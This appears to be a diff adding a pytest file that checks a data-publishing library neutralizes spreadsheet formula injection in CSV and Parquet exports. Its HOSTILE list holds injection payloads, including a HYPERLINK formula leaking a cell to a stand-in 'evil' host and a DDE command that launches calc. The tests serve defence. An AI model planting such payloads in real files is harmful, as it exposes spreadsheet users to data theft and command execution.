@@ -1,0 +1,126 @@
+"""No cell that is written for a spreadsheet, and no cell of a published CSV file, is one that it would run."""
+
+import csv
+import io
+import random
+from itertools import chain
+from pathlib import Path
+
+import pandas as pd
+import pyarrow as pa
+import pyarrow.csv as arrow_csv
+import pyarrow.parquet as pq
+import pytest
+
+import crowdblend as cb
+from crowdblend.policies.formulas import is_formula, neutral_text
+from crowdblend.reading.spreadsheets import write_csv_file
+from tests.cases import for_each
+from tests.commands import crowdblend
+
+HOSTILE = [
+    '=HYPERLINK("http://evil/?"&A1,"x")',
+    "+1+cmd|' /C calc'!A0",
+    "@SUM(1)",
+    "\t=1+1",
+    "\r=1",
+    "- none",
+    " =1",
+    "a;=1",
+    "\uff1d1",
+    "'=1",
+    '"=1"',
+]
+KINDS = {
+    "table": (cb.Table(), cb.Poisson(0.5)),
+    "noise": (cb.Table(below_k="threshold"), cb.Everybody()),
+    "microdata": (cb.Microdata(), cb.Poisson(0.5)),
+}
+
+
+def published(folder: Path, kind: str, ending: str) -> Path:
+    publication, sampling = KINDS[kind]
+    people = pd.DataFrame({"code": [*HOSTILE, "81", "-5"] * 60, "id": range(60 * (len(HOSTILE) + 2))})
+    release = cb.release(
+        people,
+        cb.Policy(
+            person="id",
+            population="town",
+            columns={"code": cb.prefix(40)},
+            sampling=sampling,
+            epsilon=1,
+            delta=1e-3,
+            publish=publication,
+            format=ending,
+        ),
+        out=folder / f"{kind}-{ending}",
+        ledger=None,
+    )
+    assert release.folder is not None
+    return release.folder
+
+
+def cells(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
+
+
+@for_each("kind", KINDS)
+def test_open_labels_are_no_formulas_in_published_csv(kind: str, tmp_path: Path) -> None:
+    """They have an apostrophe before them, which `verify` and `read` take as a part of the label."""
+    folder = published(tmp_path, kind, "csv")
+    cb.verify(folder)
+    shown = {row[0] for row in cells((folder / "data.csv").read_bytes().decode())[1:]}
+    assert shown == {neutral_text(one) for one in (*HOSTILE, "81", "-5")}
+    assert not any(map(is_formula, shown))
+    if kind != "microdata":
+        assert set(cb.read(folder).estimates().column("code").to_pylist()) == shown
+
+
+@for_each("kind", KINDS)
+def test_exports_for_spreadsheets_hold_no_formulas(kind: str, tmp_path: Path) -> None:
+    folder = published(tmp_path, kind, "parquet")
+    assert set(pq.read_table(folder / "data.parquet").column("code").to_pylist()) == {*HOSTILE, "81", "-5"}
+    write_csv_file(folder / "data.parquet", tmp_path / "out.csv")
+    texts = [(tmp_path / "out.csv").read_bytes().decode(), crowdblend("read", folder, "--excel").stdout]
+    for text in texts:
+        assert text.startswith("\ufeff")
+        assert {row[0] for row in cells(text)[1:]} == {neutral_text(one) for one in (*HOSTILE, "81", "-5")}
+        assert not any(map(is_formula, chain.from_iterable(cells(text))))
+    assert '"@SUM(1)"' in crowdblend("read", folder).stdout  # for programs, which run nothing
+
+
+def test_csv_for_excel_has_every_label_as_it_was_published(tmp_path: Path) -> None:
+    table = pa.table({"zip": ["007", "012"], "ward": ["É;", ""], "count": [3, 4]})
+    arrow_csv.write_csv(table, tmp_path / "data.csv")
+    pq.write_table(table, tmp_path / "data.parquet")
+    for name in ("data.csv", "data.parquet"):
+        write_csv_file(tmp_path / name, tmp_path / "out.csv")
+        text = (tmp_path / "out.csv").read_text(encoding="utf-8")
+        assert text.startswith("\ufeff")
+        assert cells(text) == [["zip", "ward", "count"], ["007", "É;", "3"], ["012", "", "4"]]
+
+
+def test_a_csv_file_of_others_is_neutralized_too(tmp_path: Path) -> None:
+    with (tmp_path / "data.csv").open("w", encoding="utf-8", newline="") as file:
+        csv.writer(file).writerows([["=name", "count"], *([one, "-5"] for one in HOSTILE), ["007", "1e-3"]])
+    write_csv_file(tmp_path / "data.csv", tmp_path / "out.csv")
+    rows = cells((tmp_path / "out.csv").read_bytes().decode())
+    assert rows[0] == ["'=name", "count"]
+    assert [row[0] for row in rows[1:]] == [*map(neutral_text, HOSTILE), "007"]
+    assert {row[1] for row in rows[1:]} == {"-5", "1e-3"}
+
+
+def test_different_texts_stay_different() -> None:
+    draw, seen = random.Random(1), dict[str, str]()
+    for _ in range(20_000):
+        text = "".join(draw.choice("'=-1;\t\r x\uff0b") for _ in range(draw.randrange(6)))
+        neutral = neutral_text(text)
+        assert seen.setdefault(neutral, text) == text
+        assert not is_formula(neutral)
+
+
+@pytest.mark.parametrize("kind", [pa.string(), pa.large_string(), pa.dictionary(pa.int8(), pa.string())])
+def test_texts_of_every_type_are_neutralized(kind: pa.DataType, tmp_path: Path) -> None:
+    pq.write_table(pa.table({"+x": pa.array(["=1", None, "b"], pa.string()).cast(kind)}), tmp_path / "data.parquet")
+    write_csv_file(tmp_path / "data.parquet", tmp_path / "out.csv")
+    assert (tmp_path / "out.csv").read_bytes().decode() == '\ufeff"\'+x"\n"\'=1"\n\n"b"\n'
